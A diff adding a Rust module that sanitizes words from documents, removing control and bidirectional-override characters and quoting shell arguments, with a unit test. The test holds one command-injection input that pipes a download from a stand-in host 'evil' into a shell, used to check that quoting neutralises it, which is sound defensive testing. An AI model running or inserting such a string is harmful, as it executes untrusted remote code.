@@ -1,0 +1,38 @@
+//! Words out of documents, made fit for sentences, commands and reports.
+
+/// The longest word that a sentence quotes.
+const LONGEST: usize = 120;
+
+/// Whether a character could forge a line of a report, or turn the direction of writing.
+fn harmful(c: char) -> bool {
+    c.is_control() || matches!(c, '\u{200e}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
+}
+
+/// A word from a document, for a sentence.
+pub fn shown(text: &str) -> String {
+    text.chars().filter(|c| !harmful(*c)).take(LONGEST).collect()
+}
+
+/// A word from a document, as an argument of a command that people may paste: quoted where a shell could read more
+/// than a word in it.
+pub fn argument(text: &str) -> String {
+    let word = shown(text);
+    if !word.is_empty() && word.bytes().all(|b| b.is_ascii_alphanumeric() || b":/_.,=@+-".contains(&b)) {
+        word
+    } else {
+        format!("'{}'", word.replace('\'', ""))
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn a_word_can_neither_forge_a_line_nor_a_command() {
+        assert_eq!(shown("a\n  fixed: all\u{202e}"), "a  fixed: all");
+        assert_eq!(argument("subnet-1"), "subnet-1");
+        assert_eq!(argument("subnet-1; curl evil|sh #"), "'subnet-1; curl evil|sh #'");
+        assert_eq!(argument("a'b"), "'ab'");
+    }
+}
